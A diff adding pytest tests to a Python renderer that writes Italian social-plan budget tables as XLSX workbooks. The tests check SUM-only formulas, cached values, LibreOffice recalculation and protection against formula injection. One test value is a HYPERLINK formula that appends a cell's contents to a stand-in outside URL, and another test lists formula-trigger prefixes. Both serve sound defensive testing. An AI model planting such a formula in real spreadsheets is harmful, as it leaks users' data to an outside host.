@@ -7,6 +7,9 @@ import re
 import shutil
 import subprocess
 import sys
+import warnings
+import zipfile
+import xml.etree.ElementTree as ET
 from dataclasses import replace
 from decimal import Decimal
 from pathlib import Path
@@ -18,7 +21,9 @@ from openpyxl.cell.cell import MergedCell
 from conftest import ROOT, edit
 from pdz_docs.finance.table import Cell, Table, cells
 from pdz_docs.pipeline import run
-from pdz_docs.render.xlsx import NUMBER_FORMATS, render_xlsx
+from pdz_docs.render.xlsx import NUMBER_FORMATS, PROGRAMME_SHEET, TABLE_SHEETS, render_xlsx
+
+NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
 
 SHEETS = {"Scheda A": "scheda_a", "Scheda C": "scheda_c", "Budget per fonte": "budget",
           "Cofinanziamento": "cofinanziamento_minimo", "Cofinanziamento precedente": "cofinanziamento_precedente"}
@@ -39,7 +44,7 @@ def default():
     return result, data, openpyxl.load_workbook(io.BytesIO(data))
 
 
-# --- a tiny evaluator: numbers, SUM(range) and SUMIF(range,"text",range) ----------------
+# --- a tiny evaluator: numbers and SUM(refs and areas) ------------------------------------
 
 def number(ws, ref: str) -> Decimal:
     value = ws[ref].value
@@ -52,19 +57,29 @@ def number(ws, ref: str) -> Decimal:
 
 
 def area_refs(area: str) -> list[str]:
+    if ":" not in area:
+        return [area]
     (c1, r1), (c2, r2) = (re.fullmatch(r"\$?([A-Z]+)\$?(\d+)", x).groups() for x in area.split(":"))
     cols = range(openpyxl.utils.column_index_from_string(c1), openpyxl.utils.column_index_from_string(c2) + 1)
     return [f"{openpyxl.utils.get_column_letter(c)}{r}" for r in range(int(r1), int(r2) + 1) for c in cols]
 
 
+def summed_refs(formula: str) -> list[str]:
+    m = re.fullmatch(r"=SUM\(([A-Z]+[0-9]+(?::[A-Z]+[0-9]+)?(?:,[A-Z]+[0-9]+(?::[A-Z]+[0-9]+)?)*)\)", formula)
+    assert m, f"formula not understood: {formula}"
+    return [ref for area in m[1].split(",") for ref in area_refs(area)]
+
+
 def evaluate(ws, formula: str) -> Decimal:
-    if m := re.fullmatch(r"=SUM\(([$A-Z0-9]+:[$A-Z0-9]+)\)", formula):
-        return sum((number(ws, ref) for ref in area_refs(m[1])), Decimal(0))
-    if m := re.fullmatch(r'=SUMIF\(([$A-Z0-9]+:[$A-Z0-9]+),"([^"]*)",([$A-Z0-9]+:[$A-Z0-9]+)\)', formula):
-        keys, values = area_refs(m[1]), area_refs(m[3])
-        assert len(keys) == len(values)
-        return sum((number(ws, v) for k, v in zip(keys, values) if ws[k].value == m[2]), Decimal(0))
-    raise AssertionError(f"formula not understood: {formula}")
+    return sum((number(ws, ref) for ref in summed_refs(formula)), Decimal(0))
+
+
+def column_width(ws, j: int) -> float:
+    """The width of column j (1-based); a <col> element may span several columns of one width."""
+    for dim in ws.column_dimensions.values():
+        if dim.min is not None and dim.min <= j <= dim.max:
+            return dim.width
+    raise AssertionError(f"no width for column {j}")
 
 
 def is_formula(value) -> bool:
@@ -108,7 +123,7 @@ def test_table_sheet_layout(default, sheet: str):
             elif not is_formula(xl.value):  # a real number, exact to the cent
                 assert isinstance(xl.value, (int, float)) and Decimal(repr(xl.value)) == cell.value
     for j in range(1, table.ncols + 1):  # wide enough for every shown value
-        width = ws.column_dimensions[openpyxl.utils.get_column_letter(j)].width
+        width = column_width(ws, j)
         assert width >= min(45, max(len(r[j - 1].text) for r in table.rows))
 
 
@@ -148,7 +163,8 @@ def test_known_figures(default):
     row = next(r for r in range(3, a.max_row + 1) if a.cell(r, 1).value == "Totale Scheda A")
     assert evaluate(a, a.cell(row, 7).value) == Decimal("5440662.04")
     pdz = next(r for r in range(3, a.max_row + 1) if a.cell(r, 1).value == "Totale PdZ")
-    assert a.cell(pdz, 4).value.startswith('=SUMIF($C$3:$C$')
+    refs = summed_refs(a.cell(pdz, 4).value)  # the PdZ rows only
+    assert len(refs) > 1 and all(a[ref.replace("D", "C")].value == "PdZ" for ref in refs)
     assert evaluate(a, a.cell(pdz, 7).value) == Decimal("3731520.65")
     cof = wb["Cofinanziamento"]
     assert cof["B3"].value == 19552 and cof["B3"].number_format == NUMBER_FORMATS["int"]
@@ -193,17 +209,42 @@ def test_same_content_same_bytes(default):
     assert render_xlsx(result) == data
 
 
+RECALC_ALWAYS = """<?xml version="1.0" encoding="UTF-8"?>
+<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
+ xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
+<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
+<value>0</value></prop></item>
+</oor:items>
+"""
+
+
+def without_cached_values(data: bytes) -> bytes:
+    """The same workbook with every formula's stored value replaced by 0."""
+    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for name in src.namelist():
+            part = src.read(name)
+            if name.startswith("xl/worksheets/"):
+                part, n = re.subn(rb"</f><v>[^<]*</v>", b"</f><v>0</v>", part)
+                assert n
+            dst.writestr(name, part)
+    return out.getvalue()
+
+
 @pytest.mark.skipif(shutil.which("soffice") is None or shutil.which("pdftotext") is None,
                     reason="LibreOffice o pdftotext non installati: conversione dell'XLSX non verificata")
 def test_libreoffice_computes_the_formulas(default, tmp_path: Path):
+    """LibreOffice, told to recalculate on load, computes from the formulas the figures we computed,
+    even when the values stored with them are wrong (here all set to 0)."""
     _, data, _ = default
     xlsx = tmp_path / "schede.xlsx"
-    xlsx.write_bytes(data)
+    xlsx.write_bytes(without_cached_values(data))
+    (tmp_path / "lo-profile" / "user").mkdir(parents=True)
+    (tmp_path / "lo-profile" / "user" / "registrymodifications.xcu").write_text(RECALC_ALWAYS, encoding="utf-8")
     subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--convert-to",
                     "pdf", "--outdir", str(tmp_path), str(xlsx)], capture_output=True, timeout=240)
     text = subprocess.run(["pdftotext", "-layout", str(tmp_path / "schede.pdf"), "-"],
                           capture_output=True, text=True).stdout
-    # totals exist in the file only as formulas: LibreOffice must have computed them
     for needle in ("Budget PdZ 2022-2024", "8.515.853,75 €", "Totale Scheda A", "5.440.662,04 €",
                    "904.396,85 €", "Totale B.2", "404.679,85 €", "Programmazione economica delle schede"):
         assert needle in text, needle
@@ -256,3 +297,134 @@ def test_total_not_a_plain_sum_is_written_as_value(default):
     last = ws.max_row
     assert ws.cell(last - 1, 3).value == 8515850 and ws.cell(last, 3).value == 0.4714
     assert ws.cell(last, 3).number_format == "[$-410]0.00%"
+
+
+# --- text stays text; formulas only where declared, with their values ----------------------
+
+def sheet_tables(result) -> dict[str, Table]:
+    """Sheet name → the computed table it lays out, as the workbook orders them."""
+    out = {name: result.computed.tables[tid] for name, tid in TABLE_SHEETS if tid in result.computed.tables}
+    return {**out, PROGRAMME_SHEET: result.computed.programmazione}
+
+
+def sheet_xml(data: bytes) -> tuple[dict[str, ET.Element], list[str], list[ET.Element]]:
+    """The worksheets' XML by sheet name, the shared strings, and the cell formats (xf) in order."""
+    z = zipfile.ZipFile(io.BytesIO(data))
+    rel = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
+    targets = {r.get("Id"): r.get("Target").removeprefix("/xl/")
+               for r in ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))}
+    sheets = {s.get("name"): ET.fromstring(z.read("xl/" + targets[s.get(rel)]))
+              for s in ET.fromstring(z.read("xl/workbook.xml")).iterfind(".//m:sheet", NS)}
+    shared = [n for n in z.namelist() if n.lower() == "xl/sharedstrings.xml"]
+    strings = ["".join(t.text or "" for t in si.iterfind(".//m:t", NS))
+               for name in shared for si in ET.fromstring(z.read(name)).iterfind("m:si", NS)]
+    xfs = list(ET.fromstring(z.read("xl/styles.xml")).iterfind("m:cellXfs/m:xf", NS))
+    return sheets, strings, xfs
+
+
+def cell_text(c: ET.Element, strings: list[str]) -> str | None:
+    """The text of a string cell (shared or inline); None for any other cell."""
+    if c.get("t") == "s":
+        return strings[int(c.find("m:v", NS).text)]
+    if c.get("t") == "inlineStr":
+        return "".join(t.text or "" for t in c.iterfind(".//m:t", NS))
+    return None
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://x.example/?"&C3,"Clicca")'
+
+
+def test_text_that_looks_like_a_formula_stays_text(plan_dir: Path):
+    edit(plan_dir / "schede" / "A.1.yaml", "titolo: Segretariato sociale", f"titolo: '{HOSTILE_TITLE}'")
+    for name in ("piano.yaml", "finanza.yaml"):
+        edit(plan_dir / name, "Beta", "'=1+1'")
+    data = render_xlsx(compute(plan_dir))
+    sheets, strings, xfs = sheet_xml(data)
+    found = []
+    for name, root in sheets.items():
+        for c in root.iterfind(".//m:c", NS):
+            text = cell_text(c, strings)
+            if text in (HOSTILE_TITLE, "=1+1"):
+                assert c.find("m:f", NS) is None, (name, c.get("r"))
+                assert xfs[int(c.get("s"))].get("quotePrefix") == "1", (name, c.get("r"))
+                found.append((name, text))
+            else:  # the only formulas are sums, never a text of the plan
+                f = c.find("m:f", NS)
+                assert f is None or summed_refs("=" + f.text), (name, c.get("r"), f.text)
+    assert sorted(set(found)) == [("Cofinanziamento", "=1+1"), (PROGRAMME_SHEET, HOSTILE_TITLE),
+                                  ("Scheda A", HOSTILE_TITLE), ("Scheda C", HOSTILE_TITLE)]
+    wb = openpyxl.load_workbook(io.BytesIO(data))  # the text shown is the writer's, unchanged
+    assert wb["Scheda A"]["B3"].value == HOSTILE_TITLE and wb["Cofinanziamento"]["A4"].value == "=1+1"
+
+
+@pytest.mark.parametrize("text,prefixed", [
+    ("=1+1", True), ("+39 0833 123456", True), ("-5", True), ("@SUM(A1)", True), ("\tx", True),
+    ("\rx", True), ("＝1+1", True), ("＋1", True), ("－1", True), ("＠x", True),
+    ("Casarano", False), ("1=1", False), ("", False)])
+def test_quote_prefix_on_formula_triggers(default, text: str, prefixed: bool):
+    """OWASP's list: a text starting with = + - @ tab or carriage return (also full width) keeps a quote prefix."""
+    result, _, _ = default
+    tables = dict(result.computed.tables)
+    budget = tables["budget"]
+    tables["budget"] = replace(budget, rows=(cells(text, "", Cell(Decimal(1), "euro")), *budget.rows[1:]))
+    changed = replace(result, computed=replace(result.computed, tables=tables))
+    ws = openpyxl.load_workbook(io.BytesIO(render_xlsx(changed)))["Budget per fonte"]
+    # a carriage return is stored as _x000D_ (XML would drop it), which openpyxl does not decode
+    assert (ws["A3"].value or "") == text.replace("\r", "_x000D_") and ws["A3"].data_type in ("s", "n")
+    assert ws["A3"].quotePrefix == prefixed
+    assert not is_formula(ws["B3"].value) and ws["B3"].quotePrefix is False
+
+
+def test_formulas_only_where_declared(default):
+    """The formula cells are exactly the declared sums with a known figure, each a SUM of cells."""
+    result, data, _ = default
+    sheets, _, _ = sheet_xml(data)
+    count = 0
+    for name, table in sheet_tables(result).items():
+        declared = {openpyxl.utils.get_column_letter(s.col + 1) + str(3 + s.row) for s in table.sums
+                    if table.body[s.row][s.col].value is not None}
+        formulas = {c.get("r"): c.find("m:f", NS).text for c in sheets[name].iterfind(".//m:c", NS)
+                    if c.find("m:f", NS) is not None}
+        assert set(formulas) == declared, name
+        for ref, f in formulas.items():
+            assert summed_refs("=" + f), (name, ref)
+        count += len(formulas)
+    assert count == 295
+
+
+def test_cached_values_are_the_computed_figures(default):
+    """A reader that does not calculate (openpyxl data_only, previews) sees every total."""
+    result, data, _ = default
+    values = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
+    formulas = openpyxl.load_workbook(io.BytesIO(data))
+    checked = 0
+    for name, table in sheet_tables(result).items():
+        for i, row in enumerate(table.body):
+            for j, cell in enumerate(row, 1):
+                if not cell.numeric or cell.value is None:
+                    continue
+                shown = values[name].cell(3 + i, j).value
+                expected = cell.value / 100 if cell.fmt == "pct" else cell.value
+                assert isinstance(shown, (int, float)) and Decimal(repr(shown)) == expected, (name, i, j, shown)
+                checked += is_formula(formulas[name].cell(3 + i, j).value)
+    assert checked == 295
+
+
+@pytest.mark.parametrize("ambito,shown", [
+    ("Foo &Gallipoli", "Ambito Territoriale Sociale di Foo ＆Gallipoli – Piano Sociale di Zona 2022-2024"),
+    ("&P&G" + "x" * 300, None)])
+def test_running_head_is_text(default, ambito: str, shown: str | None):
+    """The page header shows the Ambito's name as written, within the format's 255 characters,
+    and no ampersand of the name becomes a header code; nothing is printed or dropped."""
+    result, _, _ = default
+    plan = replace(result.plan, piano=result.plan.piano.model_copy(update={"ambito": ambito}))
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        data = render_xlsx(replace(result, plan=plan))
+    header = openpyxl.load_workbook(io.BytesIO(data))["Scheda A"].oddHeader.center
+    assert header.size == 8
+    if shown:
+        assert header.text == shown
+    else:
+        assert len(header.text) <= 255 - len("&C&8") and header.text.endswith("…")
+        assert header.text.startswith("Ambito Territoriale Sociale di ＆P＆Gxxx")
